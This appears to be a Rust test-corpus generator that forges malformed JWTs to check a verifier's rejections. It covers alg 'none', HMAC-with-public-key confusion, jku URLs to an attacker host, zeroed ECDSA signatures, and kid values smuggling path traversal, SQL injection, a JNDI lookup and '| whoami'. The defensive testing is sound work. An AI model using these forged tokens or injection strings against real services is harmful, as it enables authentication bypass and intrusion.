//! Tokens with the wrong algorithm, header, key or signature.

use serde_json::{Value, json};

use super::{Forge, but, claims, header, header_with};
use crate::{
    corpus::{ISSUER, NOW},
    keys::{Pair, base64},
};

impl Forge {
    pub(super) fn algorithms(&mut self) {
        let body = base64(claims().to_string());
        for (index, name) in ["none", "None", "NONE", "nOnE", "nonE", " none", "none "].into_iter().enumerate() {
            let head = base64(json!({ "alg": name, "typ": "JWT" }).to_string());
            let sealed = self.pair("rs").sign("RS256", format!("{head}.{body}").as_bytes());
            self.add(&format!("alg `{name}` without a signature"), "algorithm_none", format!("{head}.{body}."));
            if index < 2 {
                self.add(
                    &format!("alg `{name}` with a signature"),
                    "algorithm_none",
                    format!("{head}.{body}.{}", base64(sealed)),
                );
            }
        }
        for (name, value) in [("missing", Value::Null), ("a number", json!(256)), ("a list", json!(["RS256"]))] {
            let mut header = header_with("alg", value);
            if name == "missing" {
                header.as_object_mut().unwrap().remove("alg");
            }
            let token = self.pair("rs").token(&header, &claims());
            self.add(&format!("alg {name}"), "algorithm_missing", token);
        }
        for name in [
            "",
            "rs256",
            "RS256 ",
            "RS1",
            "HS1",
            "ES256K",
            "ES224",
            "A128KW",
            "RSA-OAEP",
            "dir",
            "Ed448",
            "ML-DSA-44",
            "../../dev/null",
        ] {
            self.with_header(&format!("alg `{name}`"), "algorithm_unknown", &header_with("alg", name));
        }
        // The public key as the secret of an HMAC, in each of the forms that a verifier might hold it in.
        let key = self.pair("rs").public();
        let forms = [
            ("as JWK", key.to_string()),
            ("as its modulus", key["n"].as_str().unwrap().to_owned()),
            ("as JWK set", json!({ "keys": [key] }).to_string()),
        ];
        for (form, text) in forms {
            for algorithm in ["HS256", "HS384", "HS512"] {
                let token = Pair::secret(&text).token(&json!({ "alg": algorithm, "kid": "rs" }), &claims());
                self.add(&format!("{algorithm} with the public key {form}"), "algorithm_not_allowed", token);
            }
        }
        let token = Pair::secret("").token(&json!({ "alg": "HS256" }), &claims());
        self.add("HS256 with an empty secret", "algorithm_not_allowed", token);
        let token = self.pair("published secret").token(&json!({ "alg": "HS256", "kid": "oct" }), &claims());
        self.add("HS256 with a secret that is published", "algorithm_not_allowed", token);
        let token = self.pair("rs").token(&header_with("alg", "RS384"), &claims());
        self.add("an algorithm that is not among those accepted", "algorithm_not_allowed", token);
        let token = self.pair("ps").token(&json!({ "alg": "PS256", "kid": "ps256" }), &claims());
        self.put("defaults", NOW, "PS256 where it was not chosen", "algorithm_not_allowed", &token);
        let token = self.pair("rs").token(&header(), &claims());
        self.put("secret", NOW, "RS256 where a secret is shared", "algorithm_not_allowed", &token);
        let token = self.pair("secret").token(&json!({ "alg": "HS512" }), &claims());
        self.put("secret", NOW, "HS512 where HS256 was chosen", "algorithm_not_allowed", &token);
    }

    pub(super) fn headers(&mut self) {
        let jwk = self.pair("foreign").public();
        let url = "https://evil.example.net/keys";
        for (name, expected, value) in [
            ("crit", "critical", json!(["exp"])),
            ("crit", "critical", json!([])),
            ("crit", "critical", json!(["http://example.com/UNDEFINED"])),
            ("crit", "critical", json!("b64")),
            ("crit", "critical", Value::Null),
            ("b64", "unencoded", json!(false)),
            ("b64", "unencoded", json!(true)),
            ("zip", "compressed", json!("DEF")),
            ("jku", "key_by_url", json!(url)),
            ("jku", "key_by_url", json!(format!("{ISSUER}/keys"))),
            ("jku", "key_by_url", json!("file:///dev/zero")),
            ("x5u", "key_by_url", json!(url)),
            ("x5c", "certificate_embedded", json!(["MIIB"])),
            ("cty", "nested", json!("JWT")),
            ("cty", "nested", json!("jwt")),
            ("cty", "nested", json!("application/jwt")),
        ] {
            self.with_header(&format!("{name}: {value}"), expected, &header_with(name, value));
        }
        let mut unencoded = header_with("b64", false);
        unencoded["crit"] = json!(["b64"]);
        self.with_header("b64 as RFC 7797 has it", "unencoded", &unencoded);
        // Signed with the key that the token brings.
        let mut own = header_with("jwk", jwk.clone());
        let token = self.pair("foreign").token(&own, &claims());
        self.add("a key of its own", "key_embedded", token);
        own.as_object_mut().unwrap().remove("kid");
        let token = self.pair("foreign").token(&own, &claims());
        self.add("a key of its own, and no kid", "key_embedded", token);
        let token = self.pair("foreign").token(&header_with("jku", url), &claims());
        self.add("keys elsewhere, signed with them", "key_by_url", token);

        for name in [
            "dpop+jwt",
            "client-authentication+jwt",
            "logout+jwt",
            "secevent+jwt",
            "JOSE",
            "",
            "at+jwt ",
            "text/jwt",
            "application/x/jwt",
        ] {
            self.with_header(&format!("typ `{name}`"), "type_not_allowed", &header_with("typ", name));
        }
        self.with_header("typ is no text", "type_not_allowed", &header_with("typ", json!(["JWT"])));
        for name in ["jwt", "at+jwt", "AT+JWT", "application/at+jwt", "Application/JWT"] {
            self.with_header(&format!("good, typ `{name}`"), "ok", &header_with("typ", name));
        }
        let mut untyped = header();
        untyped.as_object_mut().unwrap().remove("typ");
        self.with_header("good, without typ", "ok", &untyped);
        for (name, expected, header) in [
            ("JWT", "type_not_allowed", header()),
            ("none", "type_not_allowed", untyped),
            ("at+jwt", "ok", header_with("typ", "at+jwt")),
        ] {
            let token = self.pair("rs").token(&header, &claims());
            self.put("typed", NOW, &format!("typ {name} where at+jwt is needed"), expected, &token);
        }
    }

    pub(super) fn choice_of_key(&mut self) {
        for id in [
            "../../../../dev/null",
            "/etc/passwd",
            "rs' OR '1'='1",
            "rs\"; DROP TABLE keys;--",
            "https://evil.example.net/keys",
            "RS",
            "rs ",
            "key of another issuer",
            "${jndi:ldap://evil.example.net}",
            "| whoami",
        ] {
            self.with_header(&format!("kid `{id}`"), "key_unknown", &header_with("kid", id));
        }
        for (name, id) in [
            ("empty", json!("")),
            ("a number", json!(1)),
            ("null", Value::Null),
            ("a list", json!(["rs"])),
            ("with a line end", json!("rs\n")),
            ("with a zero byte", json!("rs\0")),
            ("long", json!("k".repeat(257))),
        ] {
            self.with_header(&format!("kid is {name}"), "key_id_malformed", &header_with("kid", id));
        }
        let token = self.pair("foreign").token(&header(), &claims());
        self.add("the right kid, and the key of another issuer", "signature_invalid", token);
        let token = self.pair("foreign").token(&header_with("kid", "foreign"), &claims());
        self.add("a key that is not published", "key_unknown", token);
        for (pair, id, algorithm) in [
            ("p256", "p256", "ES384"),
            ("rs", "rs", "RS512"),
            ("rs", "rs", "PS256"),
            ("ps", "ps256", "PS512"),
            ("ps", "ps256", "RS256"),
            ("ed", "ed", "ES256"),
            ("p256", "p256", "EdDSA"),
            ("rs", "p256", "RS256"),
            ("p256", "rs", "ES256"),
            ("enc", "for encryption", "RS256"),
            ("enc", "for wrapping", "RS256"),
            ("enc", "use is no text", "RS256"),
            ("rs", "of an unknown algorithm", "RS256"),
            ("rs", "of the wrong algorithm", "RS256"),
            ("published secret", "oct", "RS256"),
            ("p256", "not on the curve", "ES256"),
            ("p256", "short coordinate", "ES256"),
            ("p256", "secp256k1", "ES256"),
            ("ed", "x25519", "EdDSA"),
            ("rs", "no modulus", "RS256"),
        ] {
            let pair = if id == "oct" { "rs" } else { pair };
            let token = self.pair(pair).token(&json!({ "alg": algorithm, "kid": id }), &claims());
            self.add(&format!("{algorithm} with the key `{id}`, signed by `{pair}`"), "key_unfit", token);
        }
        for id in ["1024 bits", "exponent 1", "exponent 2"] {
            self.with_header(&format!("the key `{id}`"), "key_weak", &header_with("kid", id));
        }
        let token = self.pair("p256").token(&json!({ "alg": "ES256", "kid": "twin" }), &claims());
        self.add("a kid that two keys have", "key_ambiguous", token);
        let token = self.pair("p384").token(&json!({ "alg": "ES384", "kid": "shared by two types" }), &claims());
        self.add("good, a kid that two types of key share", "ok", token);
        let bare = json!({ "alg": "RS256", "typ": "JWT" });
        let token = self.pair("rs").token(&bare, &claims());
        self.put("one key", NOW, "good, no kid and one key", "ok", &token);
        self.add("no kid, and only one key fits", "ok", token);
        let token = self.pair("p256").token(&json!({ "alg": "ES256" }), &claims());
        self.add("no kid, and several keys fit", "key_ambiguous", token);
        let token = self.pair("p256").token(&json!({ "alg": "ES256" }), &claims());
        self.put("one key", NOW, "no kid, and no key fits", "key_unknown", &token);
        let token = self.pair("foreign").token(&bare, &claims());
        self.put("one key", NOW, "no kid, and the key of another issuer", "signature_invalid", &token);
    }

    pub(super) fn signatures(&mut self) {
        let good = self.pair("rs").token(&header(), &claims());
        let (message, seal) = good.rsplit_once('.').unwrap();
        self.add("no signature", "signature_invalid", format!("{message}."));
        self.add("a signature of zeros", "signature_invalid", format!("{message}.{}", base64([0; 256])));
        self.add("a short signature", "signature_invalid", format!("{message}.{}", &seal[..340]));
        self.add("a long signature", "signature_invalid", format!("{message}.{}", base64([7; 512])));
        let mut bytes = self.pair("rs").sign("RS256", message.as_bytes());
        bytes[100] ^= 1;
        self.add("one bit of the signature changed", "signature_invalid", format!("{message}.{}", base64(bytes)));
        let other = base64(but("sub", "mallory").to_string());
        let head = message.split_once('.').unwrap().0;
        self.add("another payload under the signature", "signature_invalid", format!("{head}.{other}.{seal}"));
        let head = base64(header_with("x", 1).to_string());
        let body = message.split_once('.').unwrap().1;
        self.add("another header over the signature", "signature_invalid", format!("{head}.{body}.{seal}"));
        let token = self.pair("rs").seal(&json!({ "alg": "RS256", "kid": "rs" }).to_string(), &claims().to_string());
        let spaced = token.replacen(&base64(claims().to_string()), &base64(format!("{} ", claims())), 1);
        self.add("a space more in the payload", "signature_invalid", spaced);

        let head = json!({ "alg": "ES256", "kid": "p256" });
        let message = format!("{}.{}", base64(head.to_string()), base64(claims().to_string()));
        let sealed = self.pair("p256").sign("ES256", message.as_bytes());
        for (name, bytes) in [
            ("of zeros (CVE-2022-21449)", vec![0; 64]),
            ("cut", sealed[..63].to_vec()),
            ("with a byte more", [&sealed[..], &[0]].concat()),
            ("with its halves swapped", [&sealed[32..], &sealed[..32]].concat()),
            ("in DER", [&[0x30, 0x44, 0x02, 0x20], &sealed[..32], &[0x02, 0x20], &sealed[32..]].concat()),
            ("of the order", [[0xff; 32], [0xff; 32]].concat()),
        ] {
            self.add(
                &format!("an ES256 signature {name}"),
                "signature_invalid",
                format!("{message}.{}", base64(bytes)),
            );
        }
        let head = json!({ "alg": "EdDSA", "kid": "ed" });
        let message = format!("{}.{}", base64(head.to_string()), base64(claims().to_string()));
        self.add("an EdDSA signature of zeros", "signature_invalid", format!("{message}.{}", base64([0; 64])));
        let token =
            Pair::secret("another secret that nobody has shared here").token(&json!({ "alg": "HS256" }), &claims());
        self.put("secret", NOW, "HS256 with another secret", "signature_invalid", &token);
        let token = self.pair("secret").token(&json!({ "alg": "HS256" }), &claims());
        let (message, _) = token.rsplit_once('.').unwrap();
        self.put("secret", NOW, "HS256 without a signature", "signature_invalid", &format!("{message}."));
    }
}
